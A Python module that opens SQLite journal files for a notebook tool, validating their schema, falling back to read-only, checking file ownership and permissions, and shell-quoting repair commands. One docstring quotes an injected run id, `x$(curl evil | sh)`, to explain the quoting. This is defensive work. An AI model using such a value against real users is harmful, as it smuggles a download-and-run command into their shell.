"""Opening a SQLite journal file safely: validate before writing, read-only when it must be.

Rules (issue 9): a file that is not a journal is never modified and no ``-wal`` /
``-shm`` is left beside it; a journal missing what its schema version promises,
or with a garbled version, is refused at open (:class:`JournalFormatError`); a
journal that cannot be written (read-only file, folder or filesystem, an
immutable file) opens read-only, so it can still be listed and viewed, and every
write says why it is refused. New files are created ``0600`` and the folders
created for them ``0700``: journals hold pickles of users' results.
"""

from __future__ import annotations

import errno
import functools
import os
import shlex
import sqlite3
import stat
import urllib.parse
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ..errors import JournalFormatError, JournalReadOnlyError
from ..journal.lease import FileLocks
from . import sqlite_schema as schema
from .bad_rows import BadRow, journal_error
from .sqlite_text import Connection

HINT = (
    "Pass the path of a durable_nb journal, or a new path to create one "
    "(the default is .durable/journal.db)."
)


@dataclass(frozen=True)
class FileState:
    version: int
    """Schema version on disk (0: empty, the schema is created at the first write)."""
    read_only: str | None
    """Why the journal cannot be written, or None."""
    files: FileLocks | None
    """The file's shared lease state when it can be written."""


def ro_uri(path: Path) -> str:
    """A URI that reads ``path`` without creating anything beside it.

    With a ``-wal`` present the reader must see it (``mode=ro``); without one the
    file is complete and ``immutable=1`` reads it with no locks and no ``-shm``
    (the only way to read a journal on a read-only filesystem).
    """
    uri = "file:" + urllib.parse.quote(os.fsencode(path))
    if Path(f"{path}-wal").exists():
        return uri + "?mode=ro"
    return uri + "?immutable=1"


def connect(path: Path, target: str | bytes, **kwargs: Any) -> sqlite3.Connection:
    """``sqlite3.connect(target, **kwargs)`` to the journal ``path``, pinned until it is closed.

    Why: closing any descriptor of the file drops every POSIX lock of this process on it, SQLite's too;
    a pinned file's descriptors wait for its last connection (:meth:`FileLocks.pin`).
    """
    kwargs.setdefault("factory", Connection)
    key = FileLocks.pin(path)
    try:
        conn = sqlite3.connect(target, **kwargs)
    except BaseException:
        FileLocks.unpin(key)
        raise
    assert isinstance(conn, Connection)
    conn.pinned = key
    return conn


def _writable(path: Path) -> tuple[FileLocks | None, str | None]:
    """The file's shared lease state (opened read-write), or why ``path`` cannot be written.

    The read-write descriptor is kept (never opened and closed here: see FileLocks).
    """
    try:
        files = FileLocks.of(str(path))
    except OSError as exc:
        return None, _reason(exc, path)
    folder = path.parent
    if not os.access(folder, os.W_OK):
        files.release()
        return None, f"its folder {folder} is not writable (SQLite needs to create {path.name}-wal there)"
    return files, None


def _reason(exc: OSError, path: Path) -> str:
    if exc.errno == errno.EROFS:
        return f"{path} is on a read-only filesystem"
    if exc.errno == errno.EPERM:
        return f"{path} is immutable or not permitted ({exc.strerror})"
    if exc.errno == errno.EACCES:
        return f"{path} is not writable by this user ({exc.strerror})"
    return f"{path} cannot be opened for writing ({exc.strerror})"


def check_path(path: Path) -> None:
    try:
        is_dir = path.is_dir()
    except OSError as exc:  # ENAMETOOLONG: pathlib passes it on, as a bare OSError
        raise ValueError(
            f"cannot open the journal {str(path)[:200]!r}: {exc.strerror}. Choose a shorter path."
        ) from None
    if is_dir:
        raise JournalFormatError(
            f"{path} is a directory, not a journal file. Pass a file path inside it, "
            f"e.g. {path / 'journal.db'}."
        )


def create(path: Path) -> FileLocks:
    """Create the folder (0700) and an empty journal file (0600) for a new journal; its shared lease state."""
    missing = []
    parent = path.parent
    while not parent.exists():
        missing.append(parent)
        parent = parent.parent
    try:
        for folder in reversed(missing):
            folder.mkdir(mode=0o700, exist_ok=True)
        return FileLocks.of(str(path), create=True)  # never open-and-close a journal: see FileLocks
    except OSError as exc:
        raise JournalReadOnlyError(
            f"cannot create the journal {path}: {_reason(exc, path if path.exists() else path.parent)}. "
            f"Choose a writable location, e.g. SqliteStore('~/journal.db') or a folder you own."
        ) from None


def logs_beside(journal: Path) -> list[Path]:
    """The files named like an intent log of ``journal`` (``<journal>-log.*``) beside it, by name."""
    prefix = f"{journal.name}-log."
    try:
        with os.scandir(journal.parent) as entries:
            return sorted(Path(e.path) for e in entries if e.name.startswith(prefix))
    except OSError:
        return []


def exposure(path: Path) -> str | None:
    """Why another local user could change what a replay of the journal at ``path`` unpickles, or None.

    A journal holds pickles: whoever can write it, its ``-wal``/``-shm``/``-counters``, or its folder (to
    put another file in its place) runs code as this user when it replays. So: the folder is another user's
    (root's aside) or writable by others without the sticky bit; or one of the files is another user's, a
    symlink, or writable by others. Group-writable counts only when the group has another member: with
    umask 002 (Debian, Ubuntu: each user's own group) a group-writable project folder is the normal case,
    and its group holds nobody else. Not on platforms without uids.
    """
    if not hasattr(os, "geteuid"):
        return None
    me = os.geteuid()
    try:
        folder = os.stat(path.parent)
    except OSError:
        return None
    if folder.st_uid not in (me, 0):
        return f"its folder {path.parent} belongs to another user (uid {folder.st_uid})"
    if not folder.st_mode & stat.S_ISVTX and (writers := _writers(folder, me)):
        return f"its folder {path.parent} can be written by {writers}"
    for name in (path, *(Path(f"{path}{suffix}") for suffix in ("-wal", "-shm", "-counters"))):
        try:
            st = os.lstat(name)
        except OSError:
            continue
        if stat.S_ISLNK(st.st_mode):  # the journal's own path is resolved: a loop, refused at open
            if name == path:
                continue
            return f"{name} is a symlink (durable_nb never makes one)"
        if st.st_uid != me:
            return f"{name} belongs to another user (uid {st.st_uid})"
        if writers := _writers(st, me):
            return f"{name} can be written by {writers}"
    return None


def _writers(st: os.stat_result, me: int) -> str | None:
    """Who besides its owner can write a file or folder: 'everyone', its group's other members, or None."""
    if st.st_mode & 0o002:
        return "everyone"
    if not st.st_mode & 0o020:
        return None
    others = _other_members(st.st_gid, me)
    if not others:
        return None
    return f"its group (gid {st.st_gid}: {', '.join(others[:5])}{', ...' if len(others) > 5 else ''})"


@functools.lru_cache(maxsize=64)
def _other_members(gid: int, me: int) -> tuple[str, ...]:
    """The users besides ``me`` (and root, who can write anything anyway) in group ``gid``: members or primary.

    Cached for the process: it reads every user (``getpwall``), and a store opens often in a
    group-writable folder (umask 002) while groups rarely change under a running kernel.
    """
    import grp
    import pwd

    try:
        named = grp.getgrgid(gid).gr_mem
    except KeyError:  # a gid with no name (a container's --user 1000:1000): only primary groups can hold it
        named = []
    others = []
    for name in named:
        try:
            uid = pwd.getpwnam(name).pw_uid
        except KeyError:
            uid = -1  # a member name with no user: cannot tell it is this user
        if uid not in (me, 0):
            others.append(name)
    others += [u.pw_name for u in pwd.getpwall() if u.pw_gid == gid and u.pw_uid not in (me, 0)
               and u.pw_name not in others]
    return tuple(others)


def inspect(path: Path, *, want_read_only: bool = False) -> FileState:
    """Validate an existing, non-empty journal file read-only; never writes to it."""
    try:
        ro = connect(path, ro_uri(path), uri=True)
        try:
            version, problem = schema.detect_version(ro)
            gaps = schema.missing(ro, version) if problem is None and version and version <= schema.LATEST else []
        finally:
            ro.close()
    except sqlite3.DatabaseError as exc:
        if _says_journal(path):  # a torn copy of a journal, not "not a journal, pass a journal's path"
            raise damaged(path, exc) or JournalFormatError(f"the journal {path} cannot be read ({exc})") from None
        raise JournalFormatError(f"{path} is not a durable_nb journal ({exc}). {HINT}") from None
    if problem is not None:
        raise JournalFormatError(f"{path} is not a durable_nb journal: {problem}. {HINT} The file was not changed.")
    assert version is not None
    if version == 0 and not _wal_header(path):
        raise JournalFormatError(
            f"{path} is not a durable_nb journal: it is an empty SQLite database (no tables) in rollback-journal "
            f"mode, which durable_nb never leaves behind (a journal being created, or whose creator died, is in "
            f"WAL mode). {HINT} The file was not changed; delete it first if it should become a journal."
        )
    if version > schema.LATEST:
        raise JournalFormatError(
            f"{path} has journal schema version {version}, newer than this durable_nb "
            f"understands ({schema.LATEST}). Upgrade durable_nb (pip install -U durable_nb); "
            f"the file was not changed."
        )
    if gaps:
        raise JournalFormatError(
            f"{path} claims journal schema version {version} but lacks {', '.join(gaps)}: it was damaged or "
            f"edited by hand. Restore it from a backup, or start a new journal; the file was not changed."
        )
    if want_read_only:
        return FileState(version, "it was opened with mode=ro", None)
    files, reason = _writable(path)
    return FileState(version, reason, files)


def _header(path: Path) -> bytes:
    """The first 100 bytes of the file (SQLite's header), or none if it cannot be read."""
    try:
        return FileLocks.read_head(path, 100)  # never open-and-close a journal: see FileLocks
    except OSError:
        return b""


def _wal_header(path: Path) -> bool:
    """Whether the file's SQLite header says WAL mode (bytes 18-19 are 2): creating a journal switches the empty
    file to WAL first, so a database without tables in rollback mode was made by something else."""
    return _header(path)[18:20] == b"\x02\x02"


def is_sqlite(path: Path | str) -> bool:
    """Whether the file starts with SQLite's header (any SQLite database, a journal or not)."""
    return _header(Path(path)).startswith(b"SQLite format 3\0")


def _says_journal(path: Path) -> bool:
    """Whether the file's SQLite header carries durable_nb's ``application_id`` (bytes 68-71)."""
    head = _header(path)
    return head.startswith(b"SQLite format 3\0") and head[68:72] == b"dnbj"


def damaged(path: Path, exc: sqlite3.DatabaseError) -> JournalFormatError | None:
    """The error to raise for a journal SQLite finds damaged (a torn copy, a bad disk); None for other errors."""
    text = str(exc)
    if not isinstance(exc, sqlite3.IntegrityError) and "malformed" not in text and "not a database" not in text:
        return None
    return JournalFormatError(
        f"the journal {path} is damaged: SQLite says {text!r}. Nothing was written by this operation. Keep a "
        f"copy of the file; `sqlite3 {shlex.quote(str(path))} 'PRAGMA integrity_check'` shows the damage, and "
        f"`sqlite3 {shlex.quote(str(path))} .recover | sqlite3 recovered.db` saves what can be read (then "
        f"SqliteStore('recovered.db'))."
    )


def bad_row(path: Path, exc: BadRow) -> JournalFormatError:
    """``exc`` (:mod:`.bad_rows`) with the journal's path and the sqlite3 command that fixes the row."""
    fix = exc.fix()
    return journal_error(str(path), exc, f"sqlite3: {shell_command(path, fix)}" if fix else None)


_SHELL_SPECIAL = frozenset('"$`\\!')
"""What a POSIX shell still reads inside double quotes (``!``: bash's history expansion)."""


def shell_command(path: Path | str, sql: str) -> str:
    """``sqlite3 PATH "SQL"``, which a person pastes into a shell: quoted so it runs ``sql`` and nothing else.

    Why: the statement quotes the row's values, which the journal's sender chose; in double quotes as they
    were, a run id ``x$(curl evil | sh)`` ran that command in the shell of the person fixing the file, and a
    run id holding ``"`` or a path with a space broke the command. Double quotes are kept when nothing in
    ``sql`` is special there (the common case reads as before), else :func:`shlex.quote`.
    """
    quoted = f'"{sql}"' if _SHELL_SPECIAL.isdisjoint(sql) else shlex.quote(sql)
    return f"sqlite3 {shlex.quote(str(path))} {quoted}"
